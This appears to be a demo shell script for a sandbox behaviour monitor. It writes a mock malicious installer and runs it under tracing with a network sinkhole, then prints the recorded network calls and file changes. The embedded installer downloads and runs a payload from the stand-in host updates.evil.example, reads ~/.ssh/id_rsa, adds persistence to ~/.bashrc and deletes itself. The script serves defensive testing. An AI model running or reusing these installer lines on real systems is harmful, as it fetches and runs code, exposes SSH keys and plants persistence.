#!/bin/sh
# The behaviour monitor: a small "installer" that resolves and downloads a payload, runs it,
# reads the SSH key and hides in ~/.bashrc, run under --trace --net sinkhole. Nothing leaves
# the sandbox; the findings come out with their ATT&CK ids.
set -u
: "${AIRLOCK:?run me through make demo}"
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT INT TERM
cat >"$tmp/installer.sh" <<'SH'
curl -s -m 3 -o /tmp/update http://updates.evil.example/stage2
chmod +x /tmp/update && /tmp/update
cat ~/.ssh/id_rsa >/dev/null
echo '/tmp/update &' >> ~/.bashrc
rm -f -- "$0"
SH
chmod -R a+rX "$tmp"
chmod 777 "$tmp" # the sandbox user may delete the script, as malware deletes itself
printf '\n\033[1m== airlock run --trace --net sinkhole -- sh installer.sh\033[0m\n'
"$AIRLOCK" run --trace --net sinkhole --report "$tmp/report.json" \
        --bind "$tmp" /opt/demo -- sh /opt/demo/installer.sh 2>&1 | sed 's/^/   /'
printf -- '-- what the sinkhole saw, and the file changes (from the report):\n'
/usr/bin/python3 - "$tmp/report.json" <<'PY' | sed 's/^/   /'
import json, sys
r = json.load(open(sys.argv[1]))
for n in r["network"]:
    print(n["kind"], n.get("name", ""), n.get("request", ""))
for c in r["file_changes"]:
    print(c["change"], c["path"], c["type"], c.get("sha256", "")[:16])
print(len(r["events"]), "events,", len(r["findings"]), "findings")
PY
